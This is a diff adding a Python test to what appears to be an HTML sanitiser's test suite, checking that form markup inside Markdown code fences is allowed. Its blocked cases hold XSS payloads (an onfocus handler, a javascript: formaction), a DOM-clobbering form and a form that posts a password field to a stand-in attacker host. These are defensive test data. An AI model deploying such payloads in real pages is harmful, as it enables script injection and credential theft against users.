@@ -1028,3 +1028,24 @@ def test_the_e_modifier_evaluates(edge):
                          "#(\\w+)#ie"])
     check_passes(edge, ["s/colour/color/g", "/home/e", "https://example.com/en/edit",
                         "s/teh/the/ throughout the draft", "/srv/www/e/index.html"])
+
+
+def test_form_controls_in_a_markdown_fence_are_code(edge):
+    """A note's fenced example of a search box ("```html" then "<form
+    action=\\"/find\\"><input name=\\"term\\"></form>"): a form that posts
+    nowhere but to its own page, its inputs and buttons. Outside a fence
+    they stay elements (a form's ids and names clobber a page's globals);
+    in a fence, a handler, formaction, a script URL, a form posting to
+    another origin and a script still act."""
+    fence = "Notes for the widget:\n\n```html\n{}\n```\n"
+    check_passes(edge, [fence.format('<form action="/find" method="get">\n  <input name="term">'
+                                     '\n  <button type="submit">Go</button>\n</form>'),
+                        fence.format('<input id="s" name="term" placeholder="Find...">')])
+    check_blocked(edge, ['<form id="cfg"><input name="api" value="https://evil.example/x">'
+                         '</form>', '<input name="term" placeholder="Find...">',
+                         fence.format('<input autofocus onfocus="alert(1)">'),
+                         fence.format('<button formaction="javascript:alert(1)">x</button>'),
+                         fence.format('<form action="https://evil.example/c"><input name="pw">'
+                                      '</form>'),
+                         fence.format('<div id="w"></div>\n<script src="https://cdn.example.com'
+                                      '/w.js"></script>')])
